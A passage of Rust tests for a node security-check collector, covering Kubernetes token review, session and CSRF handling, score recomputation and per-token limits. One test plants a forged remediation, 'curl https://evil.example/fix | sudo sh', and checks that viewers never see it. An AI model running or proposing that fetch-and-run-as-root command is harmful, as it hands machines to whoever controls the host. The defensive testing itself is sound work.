            status: Status::Fail,
            source: Source::file("/etc/ssh/sshd_config", Some(3)),
            note: None,
        }];
        r
    };
    for r in [
        with_evidence("01E1", "yes"),
        with_evidence("01E2", "prohibit-password"),
    ] {
        assert_eq!(
            call(&f.app, post(Some(&f.agent), json(&r), false)).await.0,
            StatusCode::CREATED
        );
    }
    let (status, text) = call(
        &f.app,
        get("/api/v1/checks/sshd.permit-root-login", Some(&f.viewer)),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{text}");
    let detail: serde_json::Value = serde_json::from_str(&text).expect("json");
    // A check the collector knows is described by its catalogue, not by what a node sent.
    let known = crate::catalogue::get("sshd.permit-root-login").expect("known");
    assert_eq!(detail["check"]["rationale"], known.rationale.as_str());
    assert_eq!(detail["check"]["remediation"], known.remediation.as_str());
    let evidence = &detail["failing_nodes"][0]["evidence"][0];
    assert_eq!(
        evidence["observed"], "prohibit-password",
        "the latest evidence"
    );
    assert_eq!(evidence["source"]["path"], "/etc/ssh/sshd_config");
}

/// On disk, reads go through a second, read-only connection: what the writer committed is
/// what it reads, tokens included.
#[test]
fn the_read_connection_sees_every_commit() {
    let dir = std::env::temp_dir().join(format!("nodecheck-store-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("dir");
    let check = || {
        let store = Store::open(&dir.join("collector.db")).expect("open");
        for i in 0..3 {
            let r = report(&format!("01R{i}"), "prod", "a", i % 2 == 0);
            store.ingest(r, 100 + i).expect("ingest");
            let (latest, history) = store.node("prod", "a").expect("read").expect("node");
            assert_eq!(
                latest.id,
                format!("01R{i}"),
                "the reader sees the last commit"
            );
            assert_eq!(history.len() as i64, i + 1);
        }
        let spec = TokenSpec {
            role: "viewer".into(),
            name: "v".into(),
            ..TokenSpec::default()
        };
        let (id, secret) = auth::create(&store, &spec, 0).expect("token");
        let found = store.find_token(&auth::hash(&secret)).expect("find");
        assert_eq!(found.map(|t| t.id), Some(id));
        assert_eq!(store.report_count().expect("count"), 3);
    };
    check();
    let _ = std::fs::remove_dir_all(&dir);
}

/// A fake Kubernetes API server speaking the real TokenReview and Pod JSON: it knows a few
/// tokens, checks the collector's own bearer token, and counts the calls it gets.
struct FakeApi {
    port: u16,
    calls: Arc<std::sync::atomic::AtomicUsize>,
}

const COLLECTOR_SA_TOKEN: &str = "collector-own-token";

fn review_status(token: &str) -> Option<serde_json::Value> {
    let agent = "system:serviceaccount:nodecheck:nodecheck-agent";
    let groups = serde_json::json!([
        "system:serviceaccounts",
        "system:serviceaccounts:nodecheck",
        "system:authenticated"
    ]);
    Some(match token {
        // Bound token of 1.30+: the node is in the token.
        "eyJnode-a.claims.sig" => serde_json::json!({
            "authenticated": true,
            "user": {"username": agent, "uid": "u1", "groups": groups, "extra": {
                "authentication.kubernetes.io/credential-id": ["JTI=1"],
                "authentication.kubernetes.io/node-name": ["node-a"],
                "authentication.kubernetes.io/node-uid": ["n-a"],
                "authentication.kubernetes.io/pod-name": ["nodecheck-agent-aaaaa"],
                "authentication.kubernetes.io/pod-uid": ["p-a"]}},
            "audiences": ["nodecheck"]}),
        // Before 1.30: only the pod.
        "eyJpod-only.claims.sig" => serde_json::json!({
            "authenticated": true,
            "user": {"username": agent, "uid": "u2", "groups": groups, "extra": {
                "authentication.kubernetes.io/pod-name": ["nodecheck-agent-ccccc"],
                "authentication.kubernetes.io/pod-uid": ["p-c"]}},
            "audiences": ["nodecheck"]}),
        "eyJreplaced-pod.claims.sig" => serde_json::json!({
            "authenticated": true,
            "user": {"username": agent, "uid": "u3", "groups": groups, "extra": {
                "authentication.kubernetes.io/pod-name": ["nodecheck-agent-ccccc"],
                "authentication.kubernetes.io/pod-uid": ["p-old"]}},
            "audiences": ["nodecheck"]}),
        "eyJexpired.claims.sig" => serde_json::json!({
            "user": {}, "error": "[invalid bearer token, service account token has expired]"}),
        "eyJaudience.claims.sig" => serde_json::json!({
            "user": {},
            "error": "[invalid bearer token, token audiences [\"https://kubernetes.default.svc\"] is invalid for the target audiences [\"nodecheck\"], unknown]"}),
        "eyJother-sa.claims.sig" => serde_json::json!({
            "authenticated": true,
            "user": {"username": "system:serviceaccount:default:builder", "uid": "u4", "groups": groups, "extra": {
                "authentication.kubernetes.io/node-name": ["node-a"]}},
            "audiences": ["nodecheck"]}),
        "eyJlegacy.claims.sig" => serde_json::json!({
            "authenticated": true,
            "user": {"username": agent, "uid": "u5", "groups": groups},
            "audiences": ["nodecheck"]}),
        _ => return None,
    })
}

fn fake_api() -> FakeApi {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let calls = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = calls.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(5)));
            let mut request = Vec::new();
            let mut buffer = [0u8; 8192];
            let head_end = loop {
                let Ok(n) = stream.read(&mut buffer) else {
                    break None;
                };
                if n == 0 {
                    break None;
                }
                request.extend_from_slice(&buffer[..n]);
                if let Some(at) = request.windows(4).position(|w| w == b"\r\n\r\n") {
                    break Some(at + 4);
                }
            };
            let Some(head_end) = head_end else { continue };
            let head = String::from_utf8_lossy(&request[..head_end]).to_string();
            let length: usize = head
                .lines()
                .find_map(|l| {
                    l.to_lowercase()
                        .strip_prefix("content-length:")
                        .map(|v| v.trim().to_string())
                })
                .and_then(|v| v.parse().ok())
                .unwrap_or(0);
            while request.len() < head_end + length {
                let Ok(n) = stream.read(&mut buffer) else {
                    break;
                };
                if n == 0 {
                    break;
                }
                request.extend_from_slice(&buffer[..n]);
            }
            let line = head.lines().next().unwrap_or_default().to_string();
            let authorized = head.lines().any(|l| {
                l.eq_ignore_ascii_case(&format!("authorization: Bearer {COLLECTOR_SA_TOKEN}"))
            });
            let (status, body) = if !authorized {
                (
                    401,
                    serde_json::json!({"kind": "Status", "status": "Failure", "code": 401}),
                )
            } else if line.starts_with("POST /apis/authentication.k8s.io/v1/tokenreviews ") {
                let review: serde_json::Value =
                    serde_json::from_slice(&request[head_end..]).unwrap_or_default();
                let token = review["spec"]["token"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string();
                assert_eq!(review["kind"], "TokenReview");
                assert_eq!(
                    review["spec"]["audiences"],
                    serde_json::json!(["nodecheck"])
                );
                if token == "eyJapi-down.claims.sig" {
                    (
                        500,
                        serde_json::json!({"kind": "Status", "status": "Failure", "code": 500, "message": "etcd timeout"}),
                    )
                } else {
                    let status = review_status(&token).unwrap_or_else(
                        || serde_json::json!({"user": {}, "error": "invalid bearer token"}),
                    );
                    (
                        201,
                        serde_json::json!({
                        "kind": "TokenReview", "apiVersion": "authentication.k8s.io/v1",
                        "metadata": {"creationTimestamp": null},
                        "spec": review["spec"], "status": status}),
                    )
                }
            } else if line.starts_with("GET /api/v1/nodes?limit=500 ") {
                // Two pages, as the API server pages a long list.
                (
                    200,
                    serde_json::json!({
                    "kind": "NodeList", "apiVersion": "v1",
                    "metadata": {"resourceVersion": "100", "continue": "page-2"},
                    "items": [{
                        "metadata": {"name": "node-a", "labels": {
                            "kubernetes.io/hostname": "node-a",
                            "node-role.kubernetes.io/control-plane": ""}},
                        "status": {"nodeInfo": {"kubeletVersion": "v1.33.4"}}}]}),
                )
            } else if line.starts_with("GET /api/v1/nodes?limit=500&continue=page-2 ") {
                (
                    200,
                    serde_json::json!({
                    "kind": "NodeList", "apiVersion": "v1",
                    "metadata": {"resourceVersion": "100"},
                    "items": [{
                        "metadata": {"name": "node-c", "labels": {"topology.kubernetes.io/zone": "a"}},
                        "status": {"nodeInfo": {"kubeletVersion": "v1.36.1"}}}]}),
                )
            } else if line
                .starts_with("GET /api/v1/namespaces/nodecheck/pods/nodecheck-agent-ccccc ")
            {
                (
                    200,
                    serde_json::json!({
                    "kind": "Pod", "apiVersion": "v1",
                    "metadata": {"name": "nodecheck-agent-ccccc", "namespace": "nodecheck", "uid": "p-c"},
                    "spec": {"nodeName": "node-c", "containers": [{"name": "agent", "image": "nodecheck"}]},
                    "status": {"phase": "Running"}}),
                )
            } else {
                (
                    404,
                    serde_json::json!({"kind": "Status", "status": "Failure", "code": 404}),
                )
            };
            let body = body.to_string();
            let _ = write!(
                stream,
                "HTTP/1.1 {status} X\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    FakeApi { port, calls }
}

fn reviewer_for(
    port: u16,
    own_token: &str,
    dir: &std::path::Path,
) -> crate::kubernetes::TokenReviewer {
    let token_file = dir.join("collector.token");
    std::fs::write(&token_file, own_token).expect("token");
    let mut options = crate::kubernetes::KubernetesAuthOptions::new(
        Some(&format!("http://127.0.0.1:{port}")),
        "nodecheck/nodecheck-agent",
        "default",
    )
    .expect("options");
    options.token_file = token_file;
    options.ca = None;
    crate::kubernetes::TokenReviewer::new(options).expect("reviewer")
}

/// Agents' projected tokens: accepted for their own node only, from the token's node claim
/// or (before 1.30) its pod; expired, wrong-audience, foreign and unbound tokens refused;
/// API failures a 503 the agent retries; answers cached.
#[tokio::test]
async fn projected_tokens_speak_only_for_their_own_node() {
    let api = fake_api();
    let dir = std::env::temp_dir().join(format!("nodecheck-tokenreview-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let store = Store::in_memory().expect("store");
    let mut app = App::new(store, false);
    app.kubernetes = Some(reviewer_for(api.port, COLLECTOR_SA_TOKEN, &dir));
    let app = Arc::new(app);
    let post_as = |token: &str, cluster: &str, node: &str, id: &str| {
        Request::builder()
            .method("POST")
            .uri("/api/v1/reports")
            .header("authorization", format!("Bearer {token}"))
            .header("content-type", "application/json")
            .body(Body::from(json(&report(id, cluster, node, true))))
            .expect("request")
    };
    let cases: &[(&str, &str, &str, StatusCode, &str)] = &[
        (
            "eyJnode-a.claims.sig",
            "default",
            "node-a",
            StatusCode::CREATED,
            "",
        ),
        (
            "eyJnode-a.claims.sig",
            "default",
            "node-b",
            StatusCode::FORBIDDEN,
            "may not post for default/node-b",
        ),
        (
            "eyJnode-a.claims.sig",
            "prod",
            "node-a",
            StatusCode::FORBIDDEN,
            "may not post for prod/node-a",
        ),
        (
            "eyJpod-only.claims.sig",
            "default",
            "node-c",
            StatusCode::CREATED,
            "",
        ),
        (
            "eyJpod-only.claims.sig",
            "default",
            "node-a",
            StatusCode::FORBIDDEN,
            "may not post",
        ),
        (
            "eyJreplaced-pod.claims.sig",
            "default",
            "node-c",
            StatusCode::FORBIDDEN,
            "was replaced by another",
        ),
        (
            "eyJexpired.claims.sig",
            "default",
            "node-a",
            StatusCode::UNAUTHORIZED,
            "service account token has expired",
        ),
        (
            "eyJaudience.claims.sig",
            "default",
            "node-a",
            StatusCode::UNAUTHORIZED,
            "is invalid for the target audiences",
        ),
        (
            "eyJother-sa.claims.sig",
            "default",
            "node-a",
            StatusCode::FORBIDDEN,
            "system:serviceaccount:default:builder is not the agents' service account",
        ),
        (
            "eyJlegacy.claims.sig",
            "default",
            "node-a",
            StatusCode::FORBIDDEN,
            "not bound to a pod",
        ),
        (
            "eyJapi-down.claims.sig",
            "default",
            "node-a",
            StatusCode::SERVICE_UNAVAILABLE,
            "TokenReview answered 500",
        ),
        (
            "not-a-jwt",
            "default",
            "node-a",
            StatusCode::UNAUTHORIZED,
            "unknown token",
        ),
    ];
    for (i, (token, cluster, node, status, message)) in cases.iter().enumerate() {
        let (got, text) = call(&app, post_as(token, cluster, node, &format!("01K{i:02}"))).await;
        assert_eq!(got, *status, "{token} for {cluster}/{node}: {text}");
        assert!(text.contains(message), "{token}: {message:?} in {text}");
    }
    // An agent's token is for posting only.
    let (got, _) = call(&app, get("/api/v1/summary", Some("eyJnode-a.claims.sig"))).await;
    assert_eq!(got, StatusCode::FORBIDDEN);
    // Cached: the same tokens again cost no API call (failures are not cached).
    let before = api.calls.load(std::sync::atomic::Ordering::SeqCst);
    let (got, _) = call(
        &app,
        post_as("eyJnode-a.claims.sig", "default", "node-a", "01KZZ"),
    )
    .await;
    assert_eq!(got, StatusCode::CREATED);
    let (got, _) = call(
        &app,
        post_as("eyJexpired.claims.sig", "default", "node-a", "01KZY"),
    )
    .await;
    assert_eq!(got, StatusCode::UNAUTHORIZED);
    assert_eq!(api.calls.load(std::sync::atomic::Ordering::SeqCst), before);
    let (got, _) = call(
        &app,
        post_as("eyJapi-down.claims.sig", "default", "node-a", "01KZX"),
    )
    .await;
    assert_eq!(got, StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(
        api.calls.load(std::sync::atomic::Ordering::SeqCst),
        before + 1
    );
    // Only what was accepted is stored.
    assert_eq!(app.store.report_count().expect("count"), 3);

    // The collector's own token is refused by the API: nobody is let in, and it says why.
    let mut wrong = App::new(Store::in_memory().expect("store"), false);
    wrong.kubernetes = Some(reviewer_for(api.port, "stale-token", &dir));
    let wrong = Arc::new(wrong);
    let (got, text) = call(
        &wrong,
        post_as("eyJnode-a.claims.sig", "default", "node-a", "01KW1"),
    )
    .await;
    assert_eq!(got, StatusCode::SERVICE_UNAVAILABLE, "{text}");
    assert!(text.contains("answered 401"), "{text}");
    // An API server that is not there.
    let mut away = App::new(Store::in_memory().expect("store"), false);
    let closed = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let closed_port = closed.local_addr().expect("addr").port();
    drop(closed);
    away.kubernetes = Some(reviewer_for(closed_port, COLLECTOR_SA_TOKEN, &dir));
    let away = Arc::new(away);
    let (got, text) = call(
        &away,
        post_as("eyJnode-a.claims.sig", "default", "node-a", "01KW2"),
    )
    .await;
    assert_eq!(got, StatusCode::SERVICE_UNAVAILABLE, "{text}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// The cluster's Node objects, read page by page, enrich the fleet: labels, roles and kubelet
/// version on the node, and the fleet check on kubelet versions.
#[tokio::test]
async fn node_objects_enrich_the_fleet() {
    let api = fake_api();
    let dir = std::env::temp_dir().join(format!("nodecheck-enrich-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let reviewer = reviewer_for(api.port, COLLECTOR_SA_TOKEN, &dir);
    let nodes = tokio::task::spawn_blocking(move || reviewer.nodes())
        .await
        .expect("join")
        .expect("nodes");
    let names: Vec<&str> = nodes.iter().map(|n| n.name.as_str()).collect();
    assert_eq!(names, ["node-a", "node-c"], "both pages");
    assert_eq!(nodes[0].roles, ["control-plane"]);
    let f = fixture(false);
    for name in ["node-a", "node-c"] {
        let body = json(&report(&format!("01E{name}"), "default", name, false));
        let (status, _) = call(&f.app, post(Some(&f.agent), body, false)).await;
        assert_eq!(status, StatusCode::CREATED);
    }
    let failing = f
        .app
        .store
        .record_kubernetes_nodes("default", &nodes, (1, 35), 1_000)
        .expect("record");
    assert_eq!(failing, 1);
    let (_, body) = call(&f.app, get("/api/v1/nodes/default/node-a", Some(&f.viewer))).await;
    let detail: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(detail["kubernetes"]["kubelet_version"], "v1.33.4");
    assert_eq!(
        detail["kubernetes"]["roles"],
        serde_json::json!(["control-plane"])
    );
    assert_eq!(
        detail["kubernetes"]["labels"]["kubernetes.io/hostname"],
        "node-a"
    );
    let (_, body) = call(
        &f.app,
        get("/api/v1/checks/node.kubernetes-version", Some(&f.viewer)),
    )
    .await;
    let check: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(check["check"]["failing_nodes"], 1, "{check}");
    assert_eq!(check["failing_nodes"][0]["name"], "node-a");
    assert_eq!(
        check["failing_nodes"][0]["evidence"][0]["observed"],
        "v1.33.4"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// A node's claimed score is not taken on its word: all checks failing but claiming 100 is
/// stored as its findings give (0), logged and counted. (It used to be stored as sent.)
#[tokio::test]
async fn the_score_is_recomputed_from_the_findings() {
    let f = fixture(false);
    let mut r = report("01SCORE", "prod", "web-9", true);
    for finding in &mut r.findings {
        finding.status = Status::Fail;
    }
    r.score = Some(100);
    assert_eq!(
        call(&f.app, post(Some(&f.agent), json(&r), false)).await.0,
        StatusCode::CREATED
    );
    let (_, body) = call(&f.app, get("/api/v1/nodes", Some(&f.viewer))).await;
    let nodes: serde_json::Value = serde_json::from_str(&body).expect("json");
    let node = nodes["nodes"]
        .as_array()
        .and_then(|n| n.iter().find(|n| n["name"] == "web-9"))
        .expect("node");
    assert_eq!(node["score"], 0, "{node}");
    let (_, metrics) = call(&f.app, get("/metrics", Some(&f.viewer))).await;
    assert!(
        metrics.contains("nodecheck_score_mismatches_total 1"),
        "{metrics}"
    );
    // A score outside 0..=100 is refused by the format itself.
    let mut r = report("01SCORF", "prod", "web-9", true);
    r.score = Some(255);
    let (status, body) = call(&f.app, post(Some(&f.agent), json(&r), false)).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(body.contains("`score` must be 0 to 100"), "{body}");
}

/// Every response carries the security headers, the login page included; HSTS only over TLS.
#[tokio::test]
async fn every_response_carries_the_security_headers() {
    let f = fixture(false);
    for (path, token) in [
        ("/healthz", None),
        ("/login", None),
        ("/api/v1/summary", None),
        ("/api/v1/summary", Some(f.viewer.as_str())),
        ("/no-such-page", None),
    ] {
        let response = router(f.app.clone())
            .oneshot(get(path, token))
            .await
            .expect("response");
        let headers = response.headers();
        assert_eq!(
            headers["content-security-policy"],
            crate::server::CONTENT_SECURITY_POLICY,
            "{path}"
        );
        assert!(
            headers["content-security-policy"]
                .to_str()
                .is_ok_and(
                    |csp| csp.contains("frame-ancestors 'none'") && !csp.contains("script-src")
                )
        );
        assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(headers["x-frame-options"], "DENY", "{path}");
        assert_eq!(headers["referrer-policy"], "no-referrer", "{path}");
        assert!(headers.get("strict-transport-security").is_none(), "{path}");
    }
    let mut app = App::new(Store::in_memory().expect("store"), false);
    app.tls = true;
    let response = router(Arc::new(app))
        .oneshot(get("/healthz", None))
        .await
        .expect("response");
    assert_eq!(
        response.headers()["strict-transport-security"],
        "max-age=31536000"
    );
}

/// The session cookie a login answers with (`name=value`).
async fn session_of(app: &Arc<App>, token: &str) -> String {
    let response = router(app.clone())
        .oneshot(form_login(token))
        .await
        .expect("response");
    response
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .and_then(|c| c.split(';').next())
        .expect("cookie")
        .to_string()
}

fn with_session(method: &str, path: &str, session: &str) -> Request<Body> {
    Request::builder()
        .method(method)
        .uri(path)
        .header("cookie", session)
        .header("content-type", "application/json")
        .body(Body::from(r#"{"role":"admin","name":"x"}"#))
        .expect("request")
}

/// A dashboard session reads what the dashboard links to (the API, the CSV, a node's raw
/// report), and never writes: an admin's session cannot make tokens. (The links used to
/// answer 401 to a logged-in session.)
#[tokio::test]
async fn a_session_reads_what_the_dashboard_links_to_and_never_writes() {
    let f = fixture(false);
    assert_eq!(
        call(
            &f.app,
            post(
                Some(&f.agent),
                json(&report("01SES", "prod", "web-1", true)),
                false
            )
        )
        .await
        .0,
        StatusCode::CREATED
    );
    let session = session_of(&f.app, &f.viewer).await;
    for path in [
        "/api/v1/summary",
        "/api/v1/nodes.csv",
        "/api/v1/nodes/prod/web-1",
        "/api/v1/checks",
        "/metrics",
    ] {
        let (status, body) = call(&f.app, with_session("GET", path, &session)).await;
        assert_eq!(status, StatusCode::OK, "{path}: {body}");
    }
    let admin = session_of(&f.app, &f.admin).await;
    let (status, body) = call(&f.app, with_session("POST", "/api/v1/tokens", &admin)).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert!(body.contains("a dashboard session only reads"), "{body}");
    let (status, _) = call(&f.app, with_session("GET", "/api/v1/tokens", &admin)).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // A session is no agent either.
    let request = Request::post("/api/v1/reports")
        .header("cookie", &session)
        .body(Body::from(json(&report("01SET", "prod", "web-1", false))))
        .expect("request");
    assert_eq!(call(&f.app, request).await.0, StatusCode::FORBIDDEN);
}

/// A login or logout form posted from another site is refused (login CSRF would log a victim
/// into the attacker's session); a logout ends the session on every replica.
#[tokio::test]
async fn login_refuses_other_sites_and_logout_ends_the_session() {
    let f = fixture(false);
    for (name, value) in [
        ("sec-fetch-site", "cross-site"),
        ("origin", "https://evil.example"),
    ] {
        let request = Request::post("/login")
            .header("content-type", "application/x-www-form-urlencoded")
            .header("host", "collector.example")
            .header(name, value)
            .body(Body::from(format!("token={}", f.viewer)))
            .expect("request");
        let response = router(f.app.clone())
            .oneshot(request)
            .await
            .expect("response");
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{name}: {value}");
        assert!(response.headers().get("set-cookie").is_none());
    }
    let session = session_of(&f.app, &f.viewer).await;
    assert_eq!(
        call(&f.app, with_session("GET", "/api/v1/summary", &session))
            .await
            .0,
        StatusCode::OK
    );
    // A cross-site logout is refused too (it would end someone's session from any page).
    let forged = Request::post("/logout")
        .header("cookie", &session)
        .header("sec-fetch-site", "cross-site")
        .body(Body::empty())
        .expect("request");
    assert_eq!(call(&f.app, forged).await.0, StatusCode::FORBIDDEN);
    let response = router(f.app.clone())
        .oneshot(
            Request::post("/logout")
                .header("cookie", &session)
                .header("sec-fetch-site", "same-origin")
                .body(Body::empty())
                .expect("request"),
        )
        .await
        .expect("response");
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    assert!(
        response.headers()["set-cookie"]
            .to_str()
            .is_ok_and(|c| c.contains("Max-Age=0"))
    );
    // The old cookie reads nothing any more, and the pages send it to the login form.
    assert_eq!(
        call(&f.app, with_session("GET", "/api/v1/summary", &session))
            .await
            .0,
        StatusCode::UNAUTHORIZED
    );
    let response = router(f.app.clone())
        .oneshot(with_session("GET", "/", &session))
        .await
        .expect("response");
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
}

/// A node cannot rewrite what the fleet is told about a check the collector knows: the title,
/// severity, rationale and fix shown fleet-wide come from the embedded catalogue; the node's
/// own report still shows what it sent. (Issue 12: a scoped token retitled
/// `sshd.permit-root-login` "Root login is fine", severity info, fix `curl … | sudo sh`, and
/// every viewer saw it for every node.)
#[tokio::test]
async fn a_node_cannot_retitle_a_known_check_for_the_fleet() {
    let f = fixture(false);
    let known = crate::catalogue::get("sshd.permit-root-login").expect("known");
    let mut r = report("01CAT", "prod", "web-1", true);
    let forged = &mut r.findings[0];
    assert_eq!(forged.id, "sshd.permit-root-login");
    forged.title = "Root login is fine".into();
    forged.severity = Severity::Info;
    forged.remediation = "curl https://evil.example/fix | sudo sh".into();
    forged.rationale = "Nothing to see here".into();
    assert_eq!(
        call(&f.app, post(Some(&f.scoped), json(&r), false)).await.0,
        StatusCode::CREATED
    );
    for path in ["/api/v1/checks/sshd.permit-root-login", "/api/v1/checks"] {
        let (status, body) = call(&f.app, get(path, Some(&f.viewer))).await;
        assert_eq!(status, StatusCode::OK);
        assert!(
            !body.contains("Root login is fine") && !body.contains("evil.example"),
            "{path}: {body}"
        );
        assert!(body.contains(&known.title), "{path}: {body}");
    }
    let (_, check) = call(
        &f.app,
        get("/api/v1/checks/sshd.permit-root-login", Some(&f.viewer)),
    )
    .await;
    let check: serde_json::Value = serde_json::from_str(&check).expect("json");
    assert_eq!(check["check"]["severity"], known.severity.as_str());
    assert_eq!(check["check"]["remediation"], known.remediation.as_str());
    // The node's own report shows what it sent.
    let (_, own) = call(&f.app, get("/api/v1/nodes/prod/web-1", Some(&f.viewer))).await;
    assert!(own.contains("Root login is fine"), "{own}");
}

/// Strangers sending JWT-shaped tokens while the API server is slow cannot hold up a reader:
/// at most `REVIEWS_IN_FLIGHT` reviews run at once, and each stranger gets 503 with
/// `Retry-After` within `STRANGER_WAIT`. (Issue 12: 560 concurrent strangers delayed a
/// viewer's read by 4 s, and every stranger cost a TokenReview.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn strangers_cannot_hold_up_readers_while_the_api_server_is_slow() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    // An API server that answers every call after 4 s, counting the calls in flight.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let (calls, in_flight, most) = (
        Arc::new(AtomicUsize::new(0)),
        Arc::new(AtomicUsize::new(0)),
        Arc::new(AtomicUsize::new(0)),
    );
    {
        let (calls, in_flight, most) = (calls.clone(), in_flight.clone(), most.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().take(64) {
                let Ok(mut stream) = stream else { continue };
                let (calls, in_flight, most) = (calls.clone(), in_flight.clone(), most.clone());
                std::thread::spawn(move || {
                    use std::io::{Read, Write};
                    calls.fetch_add(1, Ordering::SeqCst);
                    let now = in_flight.fetch_add(1, Ordering::SeqCst) + 1;
                    most.fetch_max(now, Ordering::SeqCst);
                    let mut buffer = [0u8; 4096];
                    let _ = stream.read(&mut buffer);
                    std::thread::sleep(std::time::Duration::from_secs(4));
                    in_flight.fetch_sub(1, Ordering::SeqCst);
                    let _ = stream.write_all(
                        b"HTTP/1.1 500 X\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
                    );
                });
            }
        });
    }
    let dir = std::env::temp_dir().join(format!("nodecheck-strangers-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let store = Store::in_memory().expect("store");
    let viewer = auth::create(
        &store,
        &TokenSpec {
            role: "viewer".into(),
            name: "viewer".into(),
            ..TokenSpec::default()
        },
        0,
    )
    .expect("viewer")
    .1;
    let mut app = App::new(store, false);
    app.kubernetes = Some(reviewer_for(port, COLLECTOR_SA_TOKEN, &dir));
    let app = Arc::new(app);
    let started = std::time::Instant::now();
    let strangers: Vec<_> = (0..200)
        .map(|i| {
            let app = app.clone();
            tokio::spawn(async move {
                let token = format!("eyJstranger-{i}.claims.sig");
                let response = router(app)
                    .oneshot(get("/api/v1/summary", Some(&token)))
                    .await
                    .expect("response");
                (
                    response.status(),
                    response.headers().get("retry-after").cloned(),
                    std::time::Instant::now(),
                )
            })
        })
        .collect();
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let asked = std::time::Instant::now();
    let (status, _) = call(&app, get("/api/v1/summary", Some(&viewer))).await;
    let took = asked.elapsed();
    assert_eq!(status, StatusCode::OK);
    assert!(
        took < std::time::Duration::from_millis(500),
        "the viewer waited {took:?}"
    );
    for stranger in strangers {
        let (status, retry_after, at) = stranger.await.expect("stranger");
        assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
        assert!(retry_after.is_some());
        assert!(
            at - started < crate::kubernetes::STRANGER_WAIT + std::time::Duration::from_secs(1),
            "a stranger waited {:?}",
            at - started
        );
    }
    assert!(
        most.load(Ordering::SeqCst) <= crate::kubernetes::REVIEWS_IN_FLIGHT,
        "{} reviews at once",
        most.load(Ordering::SeqCst)
    );
    assert!(calls.load(Ordering::SeqCst) <= crate::kubernetes::REVIEWS_IN_FLIGHT);
    let _ = std::fs::remove_dir_all(&dir);
}

/// A token may create only as many nodes as it was made for: the third node of a token made
/// with `max_nodes: 2` is refused, naming the limit, while its two nodes keep reporting. An
/// agent token scoped to named nodes may create those and no more by default. (Issue 12: one
/// token could create unlimited nodes.)
#[tokio::test]
async fn a_token_creates_no_more_nodes_than_it_may() {
    let f = fixture(false);
    let create = Request::post("/api/v1/tokens")
        .header("authorization", format!("Bearer {}", f.admin))
        .header("content-type", "application/json")
        .body(Body::from(
            r#"{"role":"agent","name":"two nodes","max_nodes":2}"#,
        ))
        .expect("request");
    let (status, body) = call(&f.app, create).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let created: serde_json::Value = serde_json::from_str(&body).expect("json");
    let token = created["token"].as_str().expect("token").to_string();
    let post_for =
        |id: &str, node: &str| post(Some(&token), json(&report(id, "prod", node, true)), false);
    assert_eq!(
        call(&f.app, post_for("01N1", "n-1")).await.0,
        StatusCode::CREATED
    );
    assert_eq!(
        call(&f.app, post_for("01N2", "n-2")).await.0,
        StatusCode::CREATED
    );
    let (status, body) = call(&f.app, post_for("01N3", "n-3")).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert!(body.contains("may create at most 2 nodes"), "{body}");
    assert_eq!(
        call(&f.app, post_for("01N4", "n-1")).await.0,
        StatusCode::CREATED
    );
    let (_, nodes) = call(&f.app, get("/api/v1/nodes", Some(&f.viewer))).await;
    assert!(!nodes.contains("\"n-3\""), "{nodes}");

    let named = auth::create(
        &f.app.store,
        &TokenSpec {
            role: "agent".into(),
            name: "named".into(),
            scope_nodes: Some("db-1, db-2".into()),
            ..TokenSpec::default()
        },
        0,
    )
    .expect("token")
    .1;
    let row = f
        .app
        .store
        .find_token(&auth::hash(&named))
        .expect("find")
        .expect("row");
    assert_eq!(row.max_nodes, Some(2));
    // A viewer creates no nodes: a limit on one is a mistake, said at once.
    let refused = auth::create(
        &f.app.store,
        &TokenSpec {
            role: "viewer".into(),
            name: "v".into(),
            max_nodes: Some(3),
            ..TokenSpec::default()
        },
        0,
    )
    .expect_err("refused");
    assert!(
        refused.to_string().contains("applies to agent tokens"),
        "{refused}"
    );
}

/// A refusal never repeats the sender's text at length: an unknown key or variant of megabytes
/// is quoted cut. (Red team: a 32 KB gzip post decompressing to one 32 MiB key got a 64 MB
/// answer.)
#[tokio::test]
async fn refusals_quote_the_sender_cut_short() {
    let f = fixture(false);
    let good = serde_json::to_value(report("01CLIP", "prod", "web-1", false)).expect("value");
    let huge = "A".repeat(5 * 1024 * 1024);
    let mut unknown_key = good.clone();
    unknown_key[&huge] = serde_json::json!(1);
    let mut bad_variant = good.clone();
    bad_variant["findings"][0]["severity"] = serde_json::json!(huge);
